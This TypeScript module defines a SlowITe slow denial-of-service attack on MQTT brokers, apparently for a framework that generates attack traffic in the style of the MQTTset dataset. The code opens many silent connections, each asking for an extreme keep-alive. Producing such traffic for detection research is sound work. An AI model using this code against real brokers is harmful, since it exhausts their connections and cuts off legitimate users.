import { generate } from 'mqtt-packet'
import { z } from 'zod'
import { addressParam, defineAttack, rateParam } from './attack.ts'

/**
 * SlowITe (MQTTset slowite): many connections from one address, each a CONNECT asking for a
 * keep-alive of 65,535 s and then silence, held open until the attack ends.
 */
export const slowDosAttack = defineAttack({
  type: 'slow-dos',
  summary: 'hold many silent connections open with an extreme keep-alive',
  params: z
    .object({
      address: addressParam('203.0.113.50'),
      connections: z.number().int().min(1).max(8000).default(50),
      /** New connections a second until `connections` are open. */
      rate: rateParam(50),
      keepaliveSeconds: z.number().int().min(0).max(65535).default(65535),
    })
    .strict(),
  target: () => null,
  async run(attacker, params, durationMs) {
    const openingMs = Math.min(durationMs, (params.connections / params.rate) * 1000)
    await attacker.repeat(params.rate, openingMs, (i) =>
      attacker
        .raw(params.address)
        .write(generate({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: true, clientId: `slow${i}`, keepalive: params.keepaliveSeconds })),
    )
    await attacker.sleep(durationMs - openingMs)
  },
})
